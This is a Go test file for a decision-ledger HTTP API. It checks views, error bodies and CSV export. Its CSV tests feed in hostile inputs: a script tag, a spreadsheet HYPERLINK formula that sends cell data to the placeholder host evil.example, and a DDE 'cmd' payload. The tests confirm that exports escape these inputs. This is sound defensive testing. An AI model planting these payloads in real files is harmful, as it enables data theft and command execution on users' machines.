package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/decisionledger/ledger/query"
)

func TestViews(t *testing.T) {
	t.Parallel()
	f := newFixture(t, options{})
	for _, tc := range []struct {
		name, path string
		status     int
		field      string // the error's field, or a key of the answer
	}{
		{"Products", "/api/v1/products", 200, "products"},
		{"Backlog", "/api/v1/products/checkout/backlog", 200, "items"},
		{"BacklogAsOf", "/api/v1/products/checkout/backlog?asOf=2026-01-08", 200, "asOf"},
		{"BacklogAll", "/api/v1/products/checkout/backlog?status=all", 200, "items"},
		{"Roadmap", "/api/v1/products/checkout/roadmap", 200, "periods"},
		{"Requests", "/api/v1/products/checkout/requests?status=rejected&requester=carl", 200, "requests"},
		{"Why", "/api/v1/products/checkout/why/CARD-2", 200, "decisions"},
		{"WhyAsOf", "/api/v1/products/checkout/why/R-INVOICE?asOf=2026-05-01", 200, "decisions"},
		{"Log", "/api/v1/products/checkout/log?asOf=seq:10", 200, "entries"},
		{"Compare", "/api/v1/products/checkout/compare?plannedAsOf=2026-04-01&level=item", 200, "periods"},
		{"Diff", "/api/v1/products/checkout/diff?from=2026-05-01&to=2026-05-31", 200, "moved"},
		{"ErrUnknownParameter", "/api/v1/products/checkout/backlog?colour=red", 400, "colour"},
		{"ErrRepeatedParameter", "/api/v1/products/checkout/backlog?asOf=2026-01-01&asOf=2026-02-01", 400, "asOf"},
		{"ErrParameterOfAnotherView", "/api/v1/products/checkout/roadmap?status=open", 400, "status"},
		{"ErrMinSeqNotANumber", "/api/v1/products/checkout/backlog?minSeq=x", 400, "minSeq"},
		{"ErrCSVOfWhy", "/api/v1/products/checkout/why/CARD-2?format=csv", 400, "format"},
		{"ErrFormat", "/api/v1/products/checkout/backlog?format=xml", 400, "format"},
		{"ErrNoSuchProduct", "/api/v1/products/nope/backlog", 404, ""},
		{"ErrNoSuchItem", "/api/v1/products/checkout/why/NOPE-1", 404, ""},
		{"ErrBadAsOf", "/api/v1/products/checkout/backlog?asOf=yesterday", 422, "asOf"},
		{"ErrBadStatus", "/api/v1/products/checkout/requests?status=lost", 400, "status"},
		{"ErrCompareNeedsPlan", "/api/v1/products/checkout/compare", 422, "plannedAsOf"},
		{"ErrBadProductID", "/api/v1/products/no%20such/backlog", 422, "product"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := f.do(call{path: tc.path})
			require.Equal(t, tc.status, a.status, "body: %s", a.body)
			assert.Equal(t, "application/json; charset=utf-8", a.header.Get("Content-Type"))
			m := a.json(t)
			if tc.status == 200 {
				assert.Contains(t, m, tc.field)
				return
			}
			assertError(t, m, tc.status, tc.field)
		})
	}
}

// assertError checks the shape of an error body.
func assertError(t *testing.T, m map[string]any, status int, field string) {
	t.Helper()
	e, ok := m["error"].(map[string]any)
	require.True(t, ok, "an error body has an error object: %v", m)
	assert.Equal(t, float64(status), e["code"])
	assert.NotEmpty(t, e["kind"])
	assert.NotEmpty(t, e["message"])
	if field != "" {
		assert.Equal(t, field, e["field"], "message: %v", e["message"])
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	f := newFixture(t, options{})
	a := f.post("sally", `{"action":"request.submit","args":{"id":"REQ-CSV","title":"Say \"hi\", then <script>alert(1)</script>","why":"line one\nline two"}}`)
	require.Equal(t, 201, a.status, "%s", a.body)

	for _, tc := range []struct {
		name, path, accept string
		header             []string
	}{
		{"Backlog", "/api/v1/products/checkout/backlog?format=csv", "", []string{"rank", "id", "title"}},
		{"BacklogByAccept", "/api/v1/products/checkout/backlog", "text/csv", []string{"rank", "id", "title"}},
		{"Roadmap", "/api/v1/products/checkout/roadmap?format=csv", "", []string{"period", "rank", "id"}},
		{"Requests", "/api/v1/products/checkout/requests?format=csv&minSeq=" + seqOf(t, a), "", []string{"id", "requester", "title"}},
		{"Log", "/api/v1/products/checkout/log?format=csv", "", []string{"seq", "id", "type"}},
		{"Compare", "/api/v1/products/checkout/compare?plannedAsOf=2026-04-01&format=csv", "", []string{"period", "id", "title", "outcome"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := f.do(call{path: tc.path, header: map[string]string{"Accept": tc.accept}})
			require.Equal(t, 200, a.status, "%s", a.body)
			assert.True(t, strings.HasPrefix(a.header.Get("Content-Type"), "text/csv"))
			assert.Contains(t, a.header.Get("Content-Disposition"), "attachment")
			assert.True(t, bytes.Contains(a.body, []byte("\r\n")), "RFC 4180 ends records with CRLF")
			rows, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
			require.NoError(t, err)
			require.Greater(t, len(rows), 1)
			assert.Equal(t, tc.header, rows[0][:len(tc.header)])
			for _, r := range rows {
				assert.Len(t, r, len(rows[0]), "every row has the header's columns")
			}
		})
	}

	a = f.do(call{path: "/api/v1/products/checkout/requests?format=csv&status=pending"})
	require.Equal(t, 200, a.status)
	assert.Contains(t, string(a.body), `"Say ""hi"", then <script>alert(1)</script>"`, "quotes doubled, the field quoted")
	assert.Contains(t, string(a.body), "\"line one\r\nline two\"", "a line break stays inside the quoted field")
	rows, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
	require.NoError(t, err)
	var found bool
	for _, r := range rows {
		if r[0] == "REQ-CSV" {
			found = true
			assert.Equal(t, `Say "hi", then <script>alert(1)</script>`, r[2])
		}
	}
	assert.True(t, found)
}

// TestCSVFormulasNeutralised: a request titled like a spreadsheet formula
// is downloaded with a quote in front, in every CSV the API writes it to
// (the requests view, the log's why, the decisions view); numbers stay
// numbers.
func TestCSVFormulasNeutralised(t *testing.T) {
	t.Parallel()
	f := newFixture(t, options{})
	const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`
	a := f.post("sally", `{"action":"request.submit","args":{"id":"REQ-F","title":"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")","why":"@SUM(1+1)*cmd|' /C calc'!A0"}}`)
	require.Equal(t, 201, a.status, "%s", a.body)
	min := "&minSeq=" + seqOf(t, a)
	cells := func(path string) [][]string {
		t.Helper()
		a := f.do(call{path: path + min})
		require.Equal(t, 200, a.status, "%s", a.body)
		rows, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
		require.NoError(t, err)
		return rows
	}
	var found int
	for _, r := range cells("/api/v1/products/checkout/requests?format=csv&status=pending") {
		if r[0] == "REQ-F" {
			found++
			assert.Equal(t, "'"+title, r[2])
			assert.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", r[3], "the business case")
		}
	}
	for _, r := range cells("/api/v1/products/checkout/decisions?request=REQ-F&format=csv") {
		if r[0] != "seq" {
			found++
			assert.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", r[9], "the why")
		}
	}
	for _, r := range cells("/api/v1/products/checkout/backlog?format=csv&status=all") {
		for _, c := range r {
			assert.NotRegexp(t, `^[=+@\t\r]`, c)
		}
		if r[0] != "rank" && r[9] != "" {
			_, err := strconv.ParseFloat(r[9], 64)
			assert.NoError(t, err, "a score stays a number: %q", r[9])
		}
	}
	assert.Equal(t, 2, found)
}

func seqOf(t *testing.T, a answer) string {
	t.Helper()
	evs := a.json(t)["events"].([]any)
	require.NotEmpty(t, evs)
	return strconv.FormatUint(uint64(evs[len(evs)-1].(map[string]any)["seq"].(float64)), 10)
}

// TestDecisionsRoute asks the auditor's question over HTTP, as JSON and as
// CSV, with the filters as query parameters.
func TestDecisionsRoute(t *testing.T) {
	t.Parallel()
	f := newFixture(t, options{})
	a := f.do(call{path: "/api/v1/products/checkout/decisions?epic=CARDS&type=ranked&from=2026-01-01&to=2027-01-01"})
	require.Equal(t, 200, a.status, "%s", a.body)
	var d query.Decisions
	require.NoError(t, json.Unmarshal(a.body, &d))
	var seqs []uint64
	for _, r := range d.Decisions {
		seqs = append(seqs, r.Seq)
	}
	assert.Equal(t, []uint64{44, 45, 46}, seqs, "the rows of the walk-through in docs/audit.md")

	a = f.do(call{path: "/api/v1/products/checkout/decisions?epic=CARDS&type=ranked&format=csv"})
	require.Equal(t, 200, a.status, "%s", a.body)
	assert.True(t, strings.HasPrefix(string(a.body), strings.Join(query.CSVHeader, ",")), "%s", a.body)
	assert.Equal(t, 4, strings.Count(strings.TrimSpace(string(a.body)), "\n")+1, "a header and three rows")

	for _, bad := range []string{"overrides=maybe", "colour=red", "item=A&item=B"} {
		a = f.do(call{path: "/api/v1/products/checkout/decisions?" + bad})
		assert.Equal(t, 400, a.status, "%s: %s", bad, a.body)
	}
}
